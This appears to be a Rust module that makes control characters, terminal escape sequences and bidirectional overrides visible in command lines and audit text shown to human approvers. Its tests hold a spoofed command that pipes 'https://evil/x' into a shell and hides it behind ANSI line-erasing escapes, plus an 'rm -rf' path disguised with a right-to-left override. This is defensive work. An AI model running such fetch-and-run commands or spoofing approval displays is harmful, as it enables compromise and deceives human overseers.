//! Text that crosses a trust boundary on its way to a person: command lines and reasons an
//! approver judges, names and output a host reports, rows of the audit log. A terminal obeys
//! control characters and escape sequences, and bidirectional overrides reorder what is shown,
//! so such text can make an approver see a different command from the one that runs. The
//! controller refuses these characters where it can ([`find_hidden`]); every client shows what
//! remains through [`display`] or [`shell_quote`], which make each of them visible.

use std::borrow::Cow;
use std::fmt::Write as _;

/// Whether `c` changes how the text around it is shown instead of being shown itself: C0 and C1
/// controls, DEL, Unicode format characters (bidi embeddings, overrides and isolates, zero-width
/// characters, the BOM, tag characters) and the line and paragraph separators.
pub fn is_hidden(c: char) -> bool {
    c.is_control()
        || matches!(
            c,
            '\u{00AD}'
                | '\u{0600}'..='\u{0605}'
                | '\u{061C}'
                | '\u{06DD}'
                | '\u{070F}'
                | '\u{0890}'..='\u{0891}'
                | '\u{08E2}'
                | '\u{180E}'
                | '\u{200B}'..='\u{200F}'
                | '\u{2028}'..='\u{202E}'
                | '\u{2060}'..='\u{2064}'
                | '\u{2066}'..='\u{206F}'
                | '\u{FEFF}'
                | '\u{FFF9}'..='\u{FFFB}'
                | '\u{110BD}'
                | '\u{110CD}'
                | '\u{13430}'..='\u{1343F}'
                | '\u{1BCA0}'..='\u{1BCA3}'
                | '\u{1D173}'..='\u{1D17A}'
                | '\u{E0001}'
                | '\u{E0020}'..='\u{E007F}'
        )
}

/// The first character of `text` that [`is_hidden`] and not in `allowed`, with its byte offset.
pub fn find_hidden(text: &str, allowed: &[char]) -> Option<(usize, char)> {
    text.char_indices().find(|&(_, c)| is_hidden(c) && !allowed.contains(&c))
}

/// How a refused character is named in an error message: `U+001B`.
pub fn describe(c: char) -> String {
    format!("U+{:04X}", u32::from(c))
}

/// `text` with every hidden character written as a visible escape (`\n`, `\t`, `\u{1b}`), so a
/// person sees exactly what is there. Borrowed when there is nothing to escape. Backslashes are
/// left as they are, so text that is already escaped (a quoted command line) reads the same.
pub fn display(text: &str) -> Cow<'_, str> {
    if !text.chars().any(is_hidden) {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len() + 8);
    for c in text.chars() {
        push_visible(&mut out, c);
    }
    Cow::Owned(out)
}

fn push_visible(out: &mut String, c: char) {
    match c {
        '\n' => out.push_str("\\n"),
        '\t' => out.push_str("\\t"),
        '\r' => out.push_str("\\r"),
        c if is_hidden(c) => {
            let _ = write!(out, "\\u{{{:x}}}", u32::from(c));
        }
        c => out.push(c),
    }
}

/// One argument of a command line as a POSIX shell would need it typed: bare when it is plain,
/// single-quoted when it holds spaces or shell syntax, and `$'...'` with escapes when it holds
/// hidden characters, so `argv.map(shell_quote).join(" ")` shows an approver every argument
/// boundary and every byte.
pub fn shell_quote(arg: &str) -> Cow<'_, str> {
    let plain = |c: char| c.is_alphanumeric() || "_-./:=@%+,".contains(c);
    if !arg.is_empty() && arg.chars().all(plain) {
        return Cow::Borrowed(arg);
    }
    if !arg.chars().any(is_hidden) {
        return Cow::Owned(format!("'{}'", arg.replace('\'', r"'\''")));
    }
    let mut out = String::from("$'");
    for c in arg.chars() {
        match c {
            '\'' => out.push_str("\\'"),
            '\\' => out.push_str("\\\\"),
            c => push_visible(&mut out, c),
        }
    }
    out.push('\'');
    Cow::Owned(out)
}

/// A command line for a person: each argument [`shell_quote`]d.
pub fn command_line(argv: &[String]) -> String {
    argv.iter().map(|a| shell_quote(a)).collect::<Vec<_>>().join(" ")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn escapes_and_overrides_become_visible() {
        let spoof = "curl -s https://evil/x|sh\n#\u{1b}[1K\r\u{1b}[2Asystemctl status nginx";
        let shown = display(spoof);
        assert!(!shown.chars().any(is_hidden), "{shown}");
        assert!(shown.contains("\\u{1b}[1K\\r"), "{shown}");
        assert_eq!(display("rm -rf /tmp/\u{202E}txt.exe"), "rm -rf /tmp/\\u{202e}txt.exe");
        assert_eq!(display("plain text"), "plain text");
        assert!(matches!(display("plain"), Cow::Borrowed(_)));
        assert_eq!(display(r"sh -c $'a\n'"), r"sh -c $'a\n'", "already escaped text reads the same");
        assert_eq!(shell_quote("a\\b\u{1b}"), r"$'a\\b\u{1b}'", "inside $'...' a backslash is escaped");
    }

    #[test]
    fn command_lines_show_every_argument_boundary() {
        let argv = ["sh", "-c", "echo 'hi' there", "", "a\u{1b}b"].map(String::from);
        assert_eq!(command_line(&argv), r#"sh -c 'echo '\''hi'\'' there' '' $'a\u{1b}b'"#);
        assert_eq!(shell_quote("/usr/bin/systemctl"), "/usr/bin/systemctl");
    }

    #[test]
    fn hidden_characters_are_found_unless_allowed() {
        assert_eq!(find_hidden("ok\tthen", &[]), Some((2, '\t')));
        assert_eq!(find_hidden("ok\tthen", &['\t']), None);
        assert_eq!(find_hidden("x\u{2066}y", &['\t', '\n']), Some((1, '\u{2066}')));
        assert_eq!(find_hidden("naïve café", &[]), None, "ordinary letters pass");
        assert_eq!(describe('\u{1b}'), "U+001B");
    }
}
